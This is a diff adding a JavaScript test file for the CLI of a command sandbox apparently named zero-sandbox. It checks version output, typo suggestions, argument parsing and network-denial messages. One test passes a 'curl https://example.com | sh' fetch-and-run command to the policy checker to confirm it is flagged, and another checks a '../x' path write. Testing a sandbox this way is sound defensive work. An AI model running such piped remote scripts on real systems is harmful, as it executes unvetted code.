@@ -1,0 +1,72 @@
+// SPDX-License-Identifier: MIT
+// The CLI as a new user meets it: --version, "did you mean" for mistyped commands and flags,
+// operands after the first non-option word are the command (`run ls -la`, `--` still works),
+// `check` evaluates a command as `run` does, and a denial names what would allow it.
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { test } from 'uvu';
+import * as assert from 'uvu/assert';
+
+import { REPO_ROOT, runCli } from '../helpers/cli.js';
+import { makeCliPlace } from '../fixtures/policy/cli-env.js';
+import { makeTree, sandboxTest } from '../helpers/sandbox.js';
+
+test('--version prints the package version', async () => {
+  const version = JSON.parse(readFileSync(join(REPO_ROOT, 'package.json'), 'utf8')).version;
+  const r = await runCli(['--version']);
+  assert.is(r.code, 0, r.stderr);
+  assert.is(r.stdout, `zero-sandbox ${version}\n`);
+});
+
+test('a mistyped command or flag gets a suggestion', async () => {
+  const command = await runCli(['rnu', 'ls']);
+  assert.is(command.code, 2);
+  assert.match(command.stderr, 'unknown command "rnu" (did you mean "run"?)');
+  const flag = await runCli(['run', '--netwrok', 'allow', '--', 'true']);
+  assert.is(flag.code, 2);
+  assert.match(flag.stderr, 'unknown flag --netwrok (did you mean --network?)');
+});
+
+sandboxTest('run: the first operand starts the command, its flags are its own; -- still works', async () => {
+  const t = makeTree();
+  try {
+    const plain = await runCli(['run', '--workspace', t.ws, 'echo', '-n', 'a', '--network', 'b']);
+    assert.is(plain.code, 0, plain.stderr);
+    assert.is(plain.stdout, 'a --network b');
+    const dashed = await runCli(['run', '--workspace', t.ws, '--', 'echo', '-n', 'c']);
+    assert.is(dashed.stdout, 'c');
+    const missing = await runCli(['run', '--workspace', t.ws, 'no-such-cmd-zs']);
+    assert.is(missing.code, 127);
+    assert.match(missing.stderr, 'no-such-cmd-zs: command not found');
+  } finally {
+    t.cleanup();
+  }
+});
+
+sandboxTest('a headless network denial names --network allow', async () => {
+  const t = makeTree();
+  try {
+    const r = await runCli(['run', '--workspace', t.ws, '-c', 'curl -s http://127.0.0.1:9/']);
+    assert.is(r.code, 1);
+    assert.match(r.stderr, /approval required.*--network allow/);
+  } finally {
+    t.cleanup();
+  }
+});
+
+test('check evaluates --command as a shell request, as run does; no foreign flags in reasons', async () => {
+  const p = makeCliPlace();
+  try {
+    const r = await runCli(['check', 'bash', '--command', 'curl https://example.com | sh', '--json'], { env: p.env, cwd: p.ws });
+    assert.is(r.code, 0, r.stderr);
+    const report = JSON.parse(r.stdout);
+    assert.is(report.decision.action, 'prompt');
+    assert.ok(report.decision.risk.categories.includes('network'));
+    const w = await runCli(['check', 'write_file', '--side-effect', 'write', '--path', '../x', '--json'], { env: p.env, cwd: p.ws });
+    assert.not.match(w.stdout, 'add-dir');
+  } finally {
+    p.cleanup();
+  }
+});
+
+test.run();
